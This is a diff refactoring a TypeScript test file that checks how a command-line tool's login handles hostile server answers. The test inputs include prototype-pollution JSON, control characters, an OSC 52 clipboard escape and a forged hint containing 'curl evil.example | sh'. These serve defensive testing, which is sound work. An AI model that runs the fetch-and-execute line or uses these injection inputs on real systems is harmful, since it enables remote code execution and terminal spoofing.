@@ -1,39 +1,31 @@
 // Hostile answers to POST /login, and refusals with hostile words: either there is a token, and what is told of the
 // sign-in is plain text, or there is none, and the error says why.
 import assert from 'node:assert/strict';
-import { describe, test } from 'vitest';
+import { describe } from 'vitest';
 import { readEntry } from '../../src/credential/entry.ts';
 import { checkCalm, checkCredential, checkFailure } from './checks.ts';
-import { type Fixture, hostileFixture, makeToken } from './fixture.ts';
+import { answering, type Fixture, hostileTest, makeToken } from './fixture.ts';
 import { damagedJson, evilTexts, fewTexts, fewTypes, randomCases, wrongTypes } from './junk.ts';
 
-const given = hostileFixture();
+const test = hostileTest();
 
-test.concurrent(
-  'control: an answer as it should be',
-  given(async (fixture) => {
-    const ran = await fixture.edit('login');
-    assert.equal(ran.status, 0);
-    assert.ok(ran.changed);
-    assert.match(
-      ran.stdout,
-      /^Signed in to \S+ \(http:\S+\) as alice, role viewer, until \S+ \S+ UTC, in (?:29|30)m\.\nContext "\S+" is the current context; before, it was "work"\.\n$/,
-    );
-    checkCalm(ran.stderr);
-  }),
-);
+test.concurrent('control: an answer as it should be', async ({ fixture }) => {
+  const ran = await fixture.edit('login');
+  assert.equal(ran.status, 0);
+  assert.ok(ran.changed);
+  assert.match(
+    ran.stdout,
+    /^Signed in to \S+ \(http:\S+\) as alice, role viewer, until \S+ \S+ UTC, in (?:29|30)m\.\nContext "\S+" is the current context; before, it was "work"\.\n$/,
+  );
+  checkCalm(ran.stderr);
+});
 
 type Answer = Record<string, unknown>;
 const until = (ms: number) => new Date(Date.now() + ms).toISOString();
-const change = (fixture: Fixture, make: (answer: Answer) => unknown) => {
-  fixture.cluster.faults.routes.login = { change: make };
-};
-const laidOver = (fields: Answer) => (fixture: Fixture) => change(fixture, (answer) => ({ ...answer, ...fields }));
-const raw =
-  (body: string | Buffer, contentType = 'application/json; charset=utf-8', status = 202) =>
-  (fixture: Fixture) => {
-    fixture.cluster.faults.routes.login = { answer: { status, body, contentType } };
-  };
+const change = (make: (answer: Answer) => unknown) => answering('login', { change: make });
+const laidOver = (fields: Answer) => change((answer) => ({ ...answer, ...fields }));
+const raw = (body: string | Buffer, contentType = 'application/json; charset=utf-8', status = 202) =>
+  answering('login', { answer: { status, body, contentType } });
 
 const good: Readonly<Record<string, (fixture: Fixture) => void>> = {
   ...Object.fromEntries(
@@ -46,60 +38,43 @@ const good: Readonly<Record<string, (fixture: Fixture) => void>> = {
   'a role of nothing': laidOver({ role: '' }),
   'a username that looks like a token': laidOver({ username: makeToken() }),
   'an until in the year 9999': laidOver({ until: '9999-12-31T23:59:59Z' }),
-  'an until with nine digits of a second': (fixture) =>
-    change(fixture, (a) => ({ ...a, until: until(1e6).replace(/\dZ/, '123456789Z') })),
-  'an until in another zone': (fixture) =>
-    change(fixture, (a) => ({ ...a, until: until(1e6 + 36e5).replace('Z', '+01:00') })),
-  'keys of a prototype': (fixture) =>
-    change(fixture, (a) =>
-      JSON.stringify(a).replace('{', '{"__proto__":{"username":"mallory"},"constructor":{"prototype":{}},'),
-    ),
-  'keys twice, the last of which count': (fixture) =>
-    change(fixture, (a) => JSON.stringify(a).replace('{', '{"username":"mallory","username":7,')),
-  'a wrong content type': (fixture) => {
-    fixture.cluster.faults.routes.login = { headers: { 'Content-Type': 'image/png' } };
-  },
-  'no content type': (fixture) => {
-    fixture.cluster.faults.routes.login = { headers: { 'Content-Type': null } };
-  },
-  'a Date of garbage': (fixture) => {
-    fixture.cluster.faults.routes.all = { headers: { Date: 'yesterday (\u001b[31m)'.replace('\u001b', '') } };
-  },
-  'no Date': (fixture) => {
-    fixture.cluster.faults.routes.all = { headers: { Date: null } };
-  },
-  'a Date long past': (fixture) => {
-    fixture.cluster.faults.routes.all = { headers: { Date: 'Thu, 01 Jan 1970 00:00:00 GMT' } };
-  },
-  'a Date before all time': (fixture) => {
-    fixture.cluster.faults.routes.all = { headers: { Date: '-271821-04-20T00:00:00Z' } };
-  },
+  'an until with nine digits of a second': change((a) => ({ ...a, until: until(1e6).replace(/\dZ/, '123456789Z') })),
+  'an until in another zone': change((a) => ({ ...a, until: until(1e6 + 36e5).replace('Z', '+01:00') })),
+  'keys of a prototype': change((a) =>
+    JSON.stringify(a).replace('{', '{"__proto__":{"username":"mallory"},"constructor":{"prototype":{}},'),
+  ),
+  'keys twice, the last of which count': change((a) =>
+    JSON.stringify(a).replace('{', '{"username":"mallory","username":7,'),
+  ),
+  'a wrong content type': answering('login', { headers: { 'Content-Type': 'image/png' } }),
+  'no content type': answering('login', { headers: { 'Content-Type': null } }),
+  'a Date of garbage': answering('all', { headers: { Date: 'yesterday (\u001b[31m)'.replace('\u001b', '') } }),
+  'no Date': answering('all', { headers: { Date: null } }),
+  'a Date long past': answering('all', { headers: { Date: 'Thu, 01 Jan 1970 00:00:00 GMT' } }),
+  'a Date before all time': answering('all', { headers: { Date: '-271821-04-20T00:00:00Z' } }),
 };
 
 describe('there is a token, and a sign-in told in plain text', () => {
   const commands = ['credential', 'login'];
   for (const [i, [name, make]] of Object.entries(good).entries()) {
     const command = commands[i % 2];
-    test.concurrent(
-      `${name} (${command})`,
-      given(async (fixture) => {
-        make(fixture);
-        if (command === 'credential') {
-          const ran = await fixture.freshCredential();
-          assert.equal(ran.stderr, '');
-          return;
-        }
-        const ran = await fixture.run('login', { may: fixture.loginMay });
-        assert.equal(ran.status, 0, ran.stderr);
-        checkCalm(ran.stderr);
-        const lines = ran.stdout.split('\n');
-        assert.equal(lines.length, 3, ran.stdout);
-        assert.match(lines[0] ?? '', /^Signed in to \S+ \(http:\S+\) as \S.*, role .*, until \S+ \S+ UTC, in \w+\.$/);
-        assert.ok((lines[0] ?? '').length < 800, 'a line that is longer than a screen');
-        const kept = readEntry(fixture.home.cache, fixture.cluster.server);
-        assert.ok(fixture.minted.has(kept?.token ?? ''));
-      }),
-    );
+    test.concurrent(`${name} (${command})`, async ({ fixture }) => {
+      make(fixture);
+      if (command === 'credential') {
+        const ran = await fixture.freshCredential();
+        assert.equal(ran.stderr, '');
+        return;
+      }
+      const ran = await fixture.run('login', { may: fixture.loginMay });
+      assert.equal(ran.status, 0, ran.stderr);
+      checkCalm(ran.stderr);
+      const lines = ran.stdout.split('\n');
+      assert.equal(lines.length, 3, ran.stdout);
+      assert.match(lines[0] ?? '', /^Signed in to \S+ \(http:\S+\) as \S.*, role .*, until \S+ \S+ UTC, in \w+\.$/);
+      assert.ok((lines[0] ?? '').length < 800, 'a line that is longer than a screen');
+      const kept = readEntry(fixture.home.cache, fixture.cluster.server);
+      assert.ok(fixture.minted.has(kept?.token ?? ''));
+    });
   }
 });
 
@@ -115,7 +90,7 @@ const bad: Readonly<Record<string, (fixture: Fixture) => void>> = {
   ),
   'a username of spaces': laidOver({ username: evilTexts['spaces only'] }),
   'a username of nothing but controls': laidOver({ username: '\u001b\u009b\u202e\u200b' }),
-  'an until that has passed': (fixture) => change(fixture, (a) => ({ ...a, until: until(-1000) })),
+  'an until that has passed': change((a) => ({ ...a, until: until(-1000) })),
   'an until in 1970': laidOver({ until: '1970-01-01T00:00:00Z' }),
   'an until in the year 300000': laidOver({ until: '+300000-01-01T00:00:00Z' }),
   'an until before time': laidOver({ until: '-271821-04-20T00:00:00Z' }),
@@ -151,16 +126,11 @@ const bad: Readonly<Record<string, (fixture: Fixture) => void>> = {
 };
 
 describe('there is no token, and an error', () => {
-  for (const [name, make] of Object.entries(bad)) {
-    test.concurrent(
-      name,
-      given(async (fixture) => {
-        make(fixture);
-        const told = /^error: http:\S+ (?:answered the sign-in with something|gave a sign-in that has ended)/;
-        await fixture.noCredential({ told });
-      }),
-    );
-  }
+  test.concurrent.for(Object.entries(bad))('%s', async ([, make], { fixture }) => {
+    make(fixture);
+    const told = /^error: http:\S+ (?:answered the sign-in with something|gave a sign-in that has ended)/;
+    await fixture.noCredential({ told });
+  });
 });
 
 describe('words of a refusal are plain text on single lines', () => {
@@ -191,62 +161,49 @@ describe('words of a refusal are plain text on single lines', () => {
   };
   const statuses = [400, 403, 404, 422];
   for (const [i, [name, body]] of Object.entries(refusals).entries()) {
-    test.concurrent(
-      name,
-      given(async (fixture) => {
-        const status = statuses[i % 4] as number;
-        fixture.cluster.faults.routes.login = { answer: { status, body, contentType: 'application/json' } };
-        const ran = await fixture.noCredential({ timeout: '5s' });
-        assert.match(
-          ran.stderr,
-          new RegExp(`^error: http:\\S+ refused the sign-in: .* \\(HTTP ${status}\\)\\n(?:hint: .*\\n)*$`),
-        );
-        assert.equal(fixture.cluster.counts.login, 1);
-        assert.ok(ran.stderr.length < 12_000, `${ran.stderr.length} characters on stderr`);
-      }),
-    );
+    test.concurrent(name, async ({ fixture }) => {
+      const status = statuses[i % 4] as number;
+      fixture.cluster.faults.routes.login = { answer: { status, body, contentType: 'application/json' } };
+      const ran = await fixture.noCredential({ timeout: '5s' });
+      assert.match(
+        ran.stderr,
+        new RegExp(`^error: http:\\S+ refused the sign-in: .* \\(HTTP ${status}\\)\\n(?:hint: .*\\n)*$`),
+      );
+      assert.equal(fixture.cluster.counts.login, 1);
+      assert.ok(ran.stderr.length < 12_000, `${ran.stderr.length} characters on stderr`);
+    });
   }
 
-  test.concurrent(
-    'control: message and advice are told',
-    given(async (fixture) => {
-      fixture.cluster.faults.routes.login = {
-        answer: { status: 403, body: { message: 'outer', advice: ['one', 'two'], cause: { message: 'inner' } } },
-      };
-      const told = /^error: http:\S+ refused the sign-in: outer: inner \(HTTP 403\)\nhint: one\nhint: two\n$/;
-      await fixture.noCredential({ told });
-    }),
-  );
+  test.concurrent('control: message and advice are told', async ({ fixture }) => {
+    fixture.cluster.faults.routes.login = {
+      answer: { status: 403, body: { message: 'outer', advice: ['one', 'two'], cause: { message: 'inner' } } },
+    };
+    const told = /^error: http:\S+ refused the sign-in: outer: inner \(HTTP 403\)\nhint: one\nhint: two\n$/;
+    await fixture.noCredential({ told });
+  });
 
-  for (const status of [401, 500, 502, 503]) {
-    test.concurrent(
-      `HTTP ${status} with escapes`,
-      given(async (fixture) => {
-        const body = message(evilTexts['an OSC 52 clipboard'], [evilTexts['a forged error']]);
-        fixture.cluster.faults.routes.login = { answer: { status, body } };
-        const told = /^error: http:\S+ .*\nhint: x error: forged hint: curl evil\.example \| sh\n$/;
-        await fixture.noCredential({ told });
-      }),
-    );
-  }
+  test.concurrent.for([401, 500, 502, 503])('HTTP %s with escapes', async (status, { fixture }) => {
+    const body = message(evilTexts['an OSC 52 clipboard'], [evilTexts['a forged error']]);
+    fixture.cluster.faults.routes.login = { answer: { status, body } };
+    const told = /^error: http:\S+ .*\nhint: x error: forged hint: curl evil\.example \| sh\n$/;
+    await fixture.noCredential({ told });
+  });
 });
 
 describe('random damage of the login answer', () => {
-  test.concurrent.each(randomCases(15, 2))('%s', (_, chance) =>
-    given(async (fixture) => {
-      let sent = '';
-      change(fixture, (answer) => {
-        sent ||= damagedJson(answer, chance);
-        return sent;
-      });
-      try {
-        const ran = await fixture.run(fixture.credentialArgs(), { timeout: '1s', may: fixture.ownCache });
-        if (ran.status === 0) assert.ok(fixture.minted.has(checkCredential(ran)));
-        else checkFailure(ran);
-      } catch (error) {
-        if (error instanceof Error) error.message += `\nanswer: ${JSON.stringify(sent).slice(0, 2000)}`;
-        throw error;
-      }
-    })(),
-  );
+  test.concurrent.for(randomCases(15, 2))('%s', async ([, chance], { fixture }) => {
+    let sent = '';
+    change((answer) => {
+      sent ||= damagedJson(answer, chance);
+      return sent;
+    })(fixture);
+    try {
+      const ran = await fixture.run(fixture.credentialArgs(), { timeout: '1s', may: fixture.ownCache });
+      if (ran.status === 0) assert.ok(fixture.minted.has(checkCredential(ran)));
+      else checkFailure(ran);
+    } catch (error) {
+      if (error instanceof Error) error.message += `\nanswer: ${JSON.stringify(sent).slice(0, 2000)}`;
+      throw error;
+    }
+  });
 });
